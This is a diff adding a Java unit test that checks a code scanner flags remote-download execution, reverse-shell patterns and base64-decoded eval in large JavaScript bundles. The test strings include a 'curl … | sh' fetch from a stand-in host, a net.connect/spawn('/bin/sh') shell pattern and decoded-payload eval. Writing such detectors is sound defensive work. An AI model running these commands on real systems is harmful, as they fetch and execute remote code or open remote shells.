@@ -122,6 +122,24 @@ class ProgramFileTest {
         assertThat(kinds(program)).isEmpty();
     }
 
+    @Test
+    void aBundleIsJudgedInParts() {
+        String filler = "var a = 'b', c = require('d');\nfunction e(f) { return f.g; }\n".repeat(20_000);
+        String far = "const s = net.connect(4444, h);\n%s\ncp.spawn('/bin/sh');\n%1$s\nx.pipe(y);\n";
+        assertThat(kinds(filler)).isEmpty();
+        assertThat(kinds(filler + "cp.execSync('curl -s https://a.example/p | sh');\n" + filler))
+                .containsExactly(Kind.RUNS_DOWNLOAD);
+        assertThat(shell(filler + "\ncurl -s https://a.example/p | sh\n" + filler))
+                .containsExactly(Kind.RUNS_DOWNLOAD);
+        assertThat(kinds(far.formatted(filler))).isEmpty();
+        assertThat(kinds(far.formatted(""))).containsExactly(Kind.OPENS_SHELL);
+        assertThat(kinds("const t = '" + "QUJD".repeat(200_000) + "';\nconst p = Buffer.from(t, 'base64');\neval(p.toString());\n"))
+                .containsExactly(Kind.RUNS_DECODED);
+        assertThat(kinds(filler + "t = atob('" + "QUJD".repeat(20) + "');\nnew Function(t)();\n")).isEmpty();
+        assertThat(kinds(filler + "text = atob('" + "QUJD".repeat(20) + "');\nnew Function(text)();\n"))
+                .containsExactly(Kind.RUNS_DECODED);
+    }
+
     @ParameterizedTest
     @CsvSource(
             delimiter = '~',
